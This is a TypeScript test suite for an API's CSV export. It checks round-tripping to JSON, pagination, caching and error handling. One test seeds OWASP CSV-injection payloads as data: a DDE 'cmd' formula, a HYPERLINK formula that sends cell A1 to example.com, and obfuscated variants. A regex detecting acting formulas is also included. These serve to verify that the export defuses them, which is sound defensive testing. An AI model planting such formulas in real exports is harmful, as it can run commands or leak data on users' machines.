// CSV of every list (issue 28, item 3): `Accept: text/csv` or `format=csv`. Read back by a maintained parser
// (csv-parse, strict RFC 4180: CRLF records, no loose quotes), each list's CSV equals its JSON items; hostile text
// (formula characters, quotes, commas, line breaks, any Unicode) round-trips and never starts a cell as a formula;
// the same filters, ordering, pages, cursor and Link; `group_by` as two columns; `format` over Accept; the response
// cache keeps CSV and JSON apart; a database that goes away is a 503 in JSON.
import { once } from 'node:events';
import net, { type AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse, type CastingContext } from 'csv-parse/sync';
import { buildTestApp, type TestApp } from './app.ts';
import { createTestDb } from './helpers.ts';
import { chapter } from './factories.ts';
import { event, utcDate } from './factories-community.ts';
import { RESOURCES } from '../src/api/v0/resources.ts';
import { embeddedWorker, openDatabase } from '../src/db/index.ts';
import { csvCell } from '../src/api/v0/common/csv.ts';

const CSV_TYPE = 'text/csv; charset=utf-8; header=present';
// What a spreadsheet runs as a formula that acts (docs/decisions.md, formats; issue 45): after any leading whitespace
// and zero-width characters, = and anything, or + - @ and a ( | ! [ later (ASCII or full-width); GUARDED: the same
// behind the guard's apostrophes.
const LEAD = '[\\p{White_Space}\\u180E\\u200B-\\u200D\\u2060\\uFEFF]*';
const ACTS = '(?:[=\\uFF1D].|[+\\-@\\uFF0B\\uFF0D\\uFF20].*[(|!\\[\\uFF08\\uFF5C\\uFF01\\uFF3B])';
const FORMULA = new RegExp(`^${LEAD}${ACTS}`, 'su');
const GUARDED = new RegExp(`^'+${LEAD}${ACTS}`, 'su');

let bundled: TestApp;
let own: TestApp;
before(async () => {
  bundled = await buildTestApp({ importBundled: true });
  own = await buildTestApp();
});
after(async () => {
  await bundled?.close();
  await own?.close();
});

const get = (t: TestApp, url: string, headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'GET', url, headers });
const with_ = (url: string, query: string) => `${url}${url.includes('?') ? '&' : '?'}${query}`;

interface Table {
  header: string[];
  rows: Record<string, unknown>[];
}

/**
 * The CSV as records, the way a consumer who knows the documented rules reads it: a quoted cell is text (one leading
 * apostrophe taken off before a formula character), an empty unquoted cell null, any other unquoted cell a JSON number
 * or boolean. Every cell is also checked: a quoted one does not start with a formula character, an unquoted one is
 * empty, a number or a boolean.
 */
function readCsv(body: string): Table {
  assert.ok(body.endsWith('\r\n'), 'the last record ends with CRLF');
  const cast = (value: string, context: CastingContext) => {
    if (context.lines === 1) return value;
    if (context.quoting) {
      assert.doesNotMatch(value, FORMULA, `a text cell starts as a formula: ${JSON.stringify(value)}`);
      return GUARDED.test(value) ? value.slice(1) : value;
    }
    if (value === '') return null;
    assert.match(value, /^(-?\d+(\.\d+)?([eE][-+]?\d+)?|true|false)$/, `an unquoted cell: ${JSON.stringify(value)}`);
    return JSON.parse(value) as unknown;
  };
  const records = parse(body, { record_delimiter: '\r\n', cast, relax_column_count: false }) as unknown[][];
  const [header, ...rows] = records as [string[], ...unknown[][]];
  return { header, rows: rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]]))) };
}

/** A JSON item as its CSV row reads back: arrays and objects as their JSON text. */
const asRow = (item: Record<string, unknown>) =>
  Object.fromEntries(
    Object.entries(item).map(([k, v]) => [k, v !== null && typeof v === 'object' ? JSON.stringify(v) : v]),
  );

/** A Link header with `format` taken out of each target. */
const withoutFormat = (link: unknown) =>
  String(link).replace(/<([^>]+)>/g, (_, target: string) => {
    const [path, search = ''] = target.split('?') as [string, string?];
    const params = new URLSearchParams(search);
    params.delete('format');
    return `<${path}?${params.toString()}>`;
  });

/** Every list of the registry, with the path parameters of its example record. */
async function listUrls(t: TestApp): Promise<string[]> {
  const doc = (await get(t, '/api/v0/openapi.json')).json() as {
    paths: Record<string, { get?: { operationId: string; responses: Record<string, { content?: object }> } }>;
  };
  const operations = new Map(RESOURCES.flatMap((r) => r.operations).map((op) => [op.operationId, op]));
  const urls: string[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    const op = methods.get;
    if (!op || !Object.keys(op.responses['200']?.content ?? {}).includes('text/csv')) continue;
    // Search answers CSV too (issue 45), but needs `q`: test/formats.test.ts reads it.
    if (op.operationId === 'search') continue;
    const example = path.includes('{') ? await operations.get(op.operationId)?.example?.(t.database.db) : {};
    assert.ok(example, `${op.operationId}: no example record`);
    urls.push(path.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(example[name]!)));
  }
  return urls;
}

test('every list: its CSV, read back by csv-parse, equals the JSON items; header = the item fields in schema order', async () => {
  const urls = await listUrls(bundled);
  assert.equal(urls.length, 22, urls.join(' '));
  for (const url of urls) {
    const json = await get(bundled, url);
    assert.equal(json.statusCode, 200, `${url}: ${json.body}`);
    const items = json.json().items as Record<string, unknown>[];
    for (const [how, res] of [
      ['format', await get(bundled, with_(url, 'format=csv'))],
      ['Accept', await get(bundled, url, { accept: 'text/csv' })],
    ] as const) {
      assert.equal(res.statusCode, 200, `${how} ${url}: ${res.body}`);
      assert.equal(res.headers['content-type'], CSV_TYPE, url);
      assert.match(String(res.headers['content-disposition']), /^attachment; filename="[a-z0-9-]+\.csv"$/, url);
      const table = readCsv(res.body);
      assert.deepEqual(table.rows, items.map(asRow), `${how} ${url}`);
      if (items.length > 0) assert.deepEqual(table.header, Object.keys(items[0]!), url);
      // The page's place in the list: the same Link as JSON, with `format=csv` carried along where it was given.
      assert.equal(withoutFormat(res.headers.link), json.headers.link, url);
    }
  }
  // Sub-lists are named after their path.
  const snapshot = urls.find((u) => /snapshots\/[^/]+\/issues\/$/.test(u))!;
  const month = snapshot.split('/')[4];
  assert.equal(
    (await get(bundled, with_(snapshot, 'format=csv'))).headers['content-disposition'],
    `attachment; filename="snapshots-${month}-issues.csv"`,
  );
});

test('filters, ordering, fields, near (distance_km) and a deep page give the JSON items in CSV', async () => {
  for (const url of [
    '/api/v0/chapters/?country=India&ordering=latitude',
    '/api/v0/chapters/?near=52.37,4.90&limit=5',
    '/api/v0/chapters/?near=52.37,4.90&limit=3&fields=name,distance_km,key',
    '/api/v0/projects/?level=flagship&ordering=-created_at&fields=name,level',
    '/api/v0/projects/?page=3&limit=50',
    '/api/v0/repositories/?q=language:ruby',
    '/api/v0/events/?is_upcoming=true',
  ]) {
    const json = (await get(bundled, url)).json();
    const res = await get(bundled, with_(url, 'format=csv'));
    assert.equal(res.statusCode, 200, `${url}: ${res.body}`);
    const table = readCsv(res.body);
    assert.ok(json.items.length > 0, `${url}: no items to compare`);
    assert.deepEqual(table.rows, json.items.map(asRow), url);
    assert.deepEqual(table.header, Object.keys(json.items[0]), url);
  }
  // `fields` orders the columns as the schema does, not as asked.
  const picked = readCsv((await get(bundled, '/api/v0/chapters/?fields=name,key&limit=1&format=csv')).body);
  assert.deepEqual(picked.header, ['key', 'name']);
  // A page past the end: the header alone.
  assert.equal(
    (await get(bundled, '/api/v0/chapters/?page=999&format=csv')).body,
    'key,name,latitude,longitude,created_at,updated_at\r\n',
  );
});

test('group_by: two columns, the field and count, equal to the JSON groups; null is an empty cell', async () => {
  for (const url of [
    '/api/v0/projects/?group_by=level',
    '/api/v0/repositories/?group_by=language',
    '/api/v0/sponsors/?group_by=is_member',
  ]) {
    const json = (await get(bundled, url)).json() as {
      group_by: string;
      groups: { value: unknown; count: number }[];
      count: number;
    };
    const res = await get(bundled, with_(url, 'format=csv'));
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(
      res.headers['content-disposition'],
      `attachment; filename="${url.split('/')[3]}-by-${json.group_by}.csv"`,
    );
    const table = readCsv(res.body);
    assert.deepEqual(table.header, [json.group_by, 'count']);
    assert.deepEqual(
      table.rows,
      json.groups.map((g) => ({ [json.group_by]: g.value, count: g.count })),
      url,
    );
  }
  const languages = readCsv((await get(bundled, '/api/v0/repositories/?group_by=language&format=csv')).body);
  assert.ok(
    languages.rows.some((r) => r.language === null),
    'repositories without a language: the null group',
  );
});

test('hostile text round-trips and no cell starts as a formula (OWASP CSV injection); quotes, commas, line breaks, Unicode', async () => {
  const hostile = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    '+1',
    '-1',
    '@SUM(A1:A2)',
    '\tTab first',
    '\rCR first',
    "'=already quoted",
    "''+two apostrophes(A1)",
    "'t Hooft",
    'quote " inside, and a comma',
    'line\nbreak',
    'crlf\r\nbreak',
    'Bogotá, 東京, Zürich 🚀 \u200b',
    '',
    ' =space first',
    '=',
    '-js',
    '-',
    '+',
    '=1+1',
    "-2+3+cmd|' /C calc'!A0",
  ];
  const db = own.database.db;
  for (const [i, name] of hostile.entries()) {
    await chapter(db, { key: `hostile-${i}`, name, latitude: -10 - i, longitude: -100 - i });
    await event(db, { key: `hostile-event-${i}`, name, url: name, start_date: utcDate(i), end_date: null });
  }
  const res = await get(own, '/api/v0/chapters/?format=csv');
  const raw = res.body;
  assert.ok(raw.includes(`"'=cmd|' /C calc'!A0"`), raw);
  assert.ok(raw.includes(`"'=1+1"`));
  assert.ok(raw.includes(`"'-2+3+cmd|' /C calc'!A0"`));
  assert.ok(raw.includes(`"'=HYPERLINK(""http://example.com/?""&A1,""x"")"`));
  for (const guarded of ["'@SUM(A1:A2)", "''=already quoted", "'''+two apostrophes(A1)"])
    assert.ok(raw.includes(`"${guarded}"`), JSON.stringify(guarded));
  // Nothing a spreadsheet would run: left as it is (issue 45).
  for (const plain of ['+1', '-1', '\tTab first', '\rCR first', '-js', '-', '+', '='])
    assert.ok(raw.includes(`"${plain}"`), JSON.stringify(plain));
  assert.ok(raw.includes(`"'t Hooft"`), 'an apostrophe before no formula character is left alone');
  assert.ok(raw.includes('"line\nbreak"') && raw.includes('"crlf\r\nbreak"'), 'line breaks stay inside the quotes');
  // Negative numbers are numbers, not text: bare, read as numbers.
  assert.match(raw, /,-10,-100,/);
  const json = (await get(own, '/api/v0/chapters/')).json();
  assert.deepEqual(readCsv(raw).rows, json.items.map(asRow));
  assert.deepEqual(
    readCsv(raw)
      .rows.filter((r) => String(r.key).startsWith('hostile-'))
      .sort((a, b) => Number(String(a.key).slice(8)) - Number(String(b.key).slice(8)))
      .map((r) => r.name),
    hostile,
  );
  // Events: empty text `""`, null an empty unquoted cell (end_date, coordinates).
  const events = await get(own, '/api/v0/events/?format=csv&ordering=start_date&limit=100');
  assert.match(events.body, /^"hostile-event-14","",".{10}",,,,""\r$/m);
  assert.deepEqual(
    readCsv(events.body).rows,
    (await get(own, '/api/v0/events/?ordering=start_date')).json().items.map(asRow),
  );
});

test('a formula that acts, behind leading whitespace or invisible characters, or in full-width, is guarded; -js, +1 and plain text are not', async () => {
  const runs = [
    '\n=1+1',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '  +SUM(A1)',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\u200c-1+cmd|x',
    '\u200d@SUM(A1)',
    '\u2060=1',
    '\ufeff=1',
    '\u3000=1',
    '\uff1d1+1',
    '\uff0bSUM\uff08A1)',
    '\uff0d1+Sheet2!A1',
    '\uff20A1[x]',
    ' \u200b\n\u00a0\uff1dSUM(A1)',
    "' =already guarded",
  ];
  const plain = [
    ' hello',
    '\u00a0no-break first',
    '\u200bzero width first',
    '\nline first',
    '\tTab first',
    '\uff21 full-width A',
    'a = b',
    '  +1',
    '\u200c-1',
    '\u200d@A1',
    '\uff0b1',
    '\uff0d1',
    '@owasp',
    '-js',
    '=',
  ];
  const db = own.database.db;
  for (const [i, name] of [...runs, ...plain].entries())
    await chapter(db, { key: `guard-${i}`, name, latitude: 40 + i / 100, longitude: 40 });
  const body = (await get(own, '/api/v0/chapters/?format=csv&limit=100&fields=key,name')).body;
  // The cells as written (no reader's rule applied), by key.
  const written = new Map(
    (parse(body, { record_delimiter: '\r\n', from_line: 2 }) as [string, string][]).map(([key, name]) => [key, name]),
  );
  for (const [i, name] of runs.entries()) assert.equal(written.get(`guard-${i}`), `'${name}`, JSON.stringify(name));
  for (const [i, name] of plain.entries())
    assert.equal(written.get(`guard-${runs.length + i}`), name, `unchanged: ${JSON.stringify(name)}`);
  // Read back by the documented rule, every text is the original.
  const names = new Map(readCsv(body).rows.map((row) => [row.key, row.name]));
  assert.deepEqual(
    [...runs, ...plain].map((_, i) => names.get(`guard-${i}`)),
    [...runs, ...plain],
  );
});

test('a cell: text quoted, numbers and booleans bare, null empty, arrays and objects as JSON text (guarded alike)', () => {
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(-0.5), '-0.5');
  assert.equal(csvCell(false), 'false');
  assert.equal(csvCell(''), '""');
  // Text that a spreadsheet reads as a number or an error, and never runs, is left alone (issue 45); a formula is not.
  for (const text of ['-5', '+1', '-js', '-', '+', '@owasp', '='])
    assert.equal(csvCell(text), `"${text}"`, JSON.stringify(text));
  for (const text of ['=1+1', '@SUM(A1)', '-1+cmd|x', '+A1+Sheet2!B1', '-[book.xlsx]A1'])
    assert.equal(csvCell(text), `"'${text}"`, JSON.stringify(text));
  assert.equal(csvCell([{ key: null, name: 'A, "B"' }]), '"[{""key"":null,""name"":""A, \\""B\\""""}]"');
  assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
});

test('pages and cursor: walking Link next of the CSV gives the whole JSON list, in order, once', async () => {
  const all = (await get(own, '/api/v0/events/?ordering=start_date')).json().items as Record<string, unknown>[];
  assert.ok(all.length > 10);
  let url: string | undefined = '/api/v0/events/?ordering=start_date&limit=3&format=csv';
  const rows: Record<string, unknown>[] = [];
  let pages = 0;
  while (url && pages < 50) {
    const res = await get(own, url);
    assert.equal(res.statusCode, 200, res.body);
    rows.push(...readCsv(res.body).rows);
    const next = /<([^>]+)>; rel="next"/.exec(String(res.headers.link));
    if (next) assert.match(next[1]!, /format=csv/);
    if (pages === 1) assert.match(String(next?.[1]), /cursor=/);
    url = next?.[1];
    pages++;
  }
  assert.equal(pages, Math.ceil(all.length / 3));
  assert.deepEqual(rows, all.map(asRow));
});

test('format wins over Accept; a bad format is a 400; an Accept that allows nothing offered a 406; details take format=json only', async () => {
  const body = async (url: string, accept?: string) => {
    const res = await get(bundled, url, accept ? { accept } : {});
    return {
      status: res.statusCode,
      type: String(res.headers['content-type']),
      json: () => res.json(),
      vary: res.headers.vary,
    };
  };
  assert.match((await body('/api/v0/projects/?format=csv&limit=1', 'application/json')).type, /^text\/csv/);
  assert.match((await body('/api/v0/projects/?format=json&limit=1', 'text/csv')).type, /^application\/json/);
  assert.match((await body('/api/v0/projects/?format=CSV&limit=1', 'text/html')).type, /^text\/csv/);
  assert.match((await body('/api/v0/projects/?format=%20csv%20&limit=1')).type, /^text\/csv/);
  assert.match(
    (await body('/api/v0/projects/?format=&limit=1', 'text/csv')).type,
    /^text\/csv/,
    'an empty format is absent',
  );
  assert.match((await body('/api/v0/chapters/?format=geojson&limit=1', 'text/csv')).type, /^application\/geo\+json/);
  assert.match((await body('/api/v0/projects/?limit=1', 'text/*')).type, /^text\/csv/);
  assert.match(
    (await body('/api/v0/projects/?limit=1', 'text/csv;q=0.5, application/json')).type,
    /^application\/json/,
  );
  assert.match(
    (await body('/api/v0/projects/?limit=1', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8')).type,
    /^application\/json/,
  );
  for (const url of [
    '/api/v0/projects/?format=xml',
    '/api/v0/projects/?format=geojson',
    '/api/v0/projects/?format=ics',
    '/api/v0/chapters/?format=ics',
    '/api/v0/projects/?format=csv&format=json',
    '/api/v0/projects/london?format=csv',
    '/api/v0/chapters/london?format=csv',
  ]) {
    const res = await body(url);
    assert.equal(res.status, 400, url);
    assert.deepEqual(res.json().errors[0].loc, ['query', 'format'], url);
  }
  assert.equal((await body('/api/v0/chapters/london?format=json')).status, 200);
  assert.match((await body('/api/v0/chapters/london', 'text/csv')).type, /^application\/json/, 'details ignore Accept');
  const refused = await body('/api/v0/projects/', 'text/html');
  assert.equal(refused.status, 406);
  assert.deepEqual(refused.json().errors, [
    { loc: ['header', 'accept'], msg: 'must allow one of: application/json, text/csv' },
  ]);
  assert.match(String(refused.vary), /Accept/);
  assert.equal((await body('/api/v0/projects/?format=csv', 'text/html')).status, 200, 'format answers even so');
  // group_by with GeoJSON stays a 400; with CSV it is the counts.
  assert.equal((await body('/api/v0/chapters/?group_by=region&format=geojson')).status, 400);
});

test('a huge limit is still a 400; the default page is 100 rows with a Link to the next', async () => {
  for (const q of ['limit=1000000', 'limit=101', 'page_size=500', 'limit=1e2', 'page=0'])
    assert.equal((await get(bundled, `/api/v0/projects/?format=csv&${q}`)).statusCode, 400, q);
  const res = await get(bundled, '/api/v0/projects/?format=csv');
  assert.equal(readCsv(res.body).rows.length, 100);
  assert.match(String(res.headers.link), /rel="next"/);
});

test('the response cache keeps CSV and JSON apart; ETags differ; a HIT carries Content-Disposition and Link', async () => {
  const url = '/api/v0/projects/?level=lab&limit=5';
  const json = await get(bundled, url);
  const csv1 = await get(bundled, url, { accept: 'text/csv' });
  assert.equal(csv1.headers['x-cache'], 'MISS', 'a cached JSON answer is not served to a CSV request');
  const csv2 = await get(bundled, url, { accept: 'text/csv' });
  assert.equal(csv2.headers['x-cache'], 'HIT');
  for (const name of ['content-type', 'content-disposition', 'link', 'etag', 'vary'])
    assert.equal(csv2.headers[name], csv1.headers[name], name);
  assert.equal(csv2.body, csv1.body);
  assert.equal(csv1.headers.vary, 'Origin, X-API-Key, Accept');
  assert.match(String((await get(bundled, url)).headers['content-type']), /^application\/json/);
  assert.notEqual(csv1.headers.etag, json.headers.etag);
  const status = async (etag: unknown, accept?: string) =>
    (await get(bundled, url, { 'if-none-match': String(etag), ...(accept ? { accept } : {}) })).statusCode;
  assert.equal(await status(csv1.headers.etag, 'text/csv'), 304);
  assert.equal(await status(csv1.headers.etag), 200);
  assert.equal(await status(json.headers.etag, 'text/csv'), 200);
  // format=csv is its own URL: its own entry.
  const byFormat = await get(bundled, `${url}&format=csv`);
  assert.equal(byFormat.body, csv1.body);
  const head = await own.app.inject({ method: 'HEAD', url: '/api/v0/events/?format=csv' });
  assert.equal(head.statusCode, 200);
  assert.equal(head.body, '');
  assert.equal(head.headers['content-disposition'], 'attachment; filename="events.csv"');
});

/** A TCP relay to the test's PostgreSQL server that can be cut: every connection reset, no new one accepted. */
async function relayTo(target: URL) {
  const sockets = new Set<net.Socket>();
  const server = net.createServer((client) => {
    const upstream = net.connect(Number(target.port || 5432), target.hostname);
    const drop = () => (client.destroy(), upstream.destroy());
    for (const socket of [client, upstream]) sockets.add(socket.on('error', drop).on('close', drop));
    client.pipe(upstream).pipe(client);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = new URL(target);
  url.host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url: url.toString(),
    cut() {
      server.close();
      for (const socket of sockets) socket.destroy();
    },
  };
}

test('the database gone mid-request: a CSV request is a 503 in JSON, without a file name', async () => {
  const base = await createTestDb({ log: () => undefined });
  const relay = base.url ? await relayTo(new URL(base.url)) : undefined;
  const database = relay ? await openDatabase({ databaseUrl: relay.url, poolSize: 2 }) : base;
  const t = await buildTestApp({ sharedDatabase: { ...database, url: relay?.url, drop: async () => {} } });
  try {
    await chapter(database.db, {});
    assert.equal((await get(t, '/api/v0/chapters/?format=csv')).statusCode, 200);
    if (relay) {
      // The server's connections reset, and no new one accepted.
      relay.cut();
    } else {
      // The embedded database's worker dies; in memory it cannot come back.
      const crashed = once(database.embedded!, 'crashed');
      await embeddedWorker(database)!.crash();
      await crashed;
    }
    const res = await get(t, '/api/v0/chapters/?format=csv&limit=7');
    assert.equal(res.statusCode, 503, res.body);
    assert.match(String(res.headers['content-type']), /^application\/json/);
    assert.deepEqual(res.json(), { message: 'Service unavailable', error_id: res.headers['x-request-id'] });
    assert.equal(res.headers['content-disposition'], undefined);
  } finally {
    await t.close();
    if (relay) await database.close().catch(() => undefined);
    await base.drop().catch(() => undefined);
  }
});
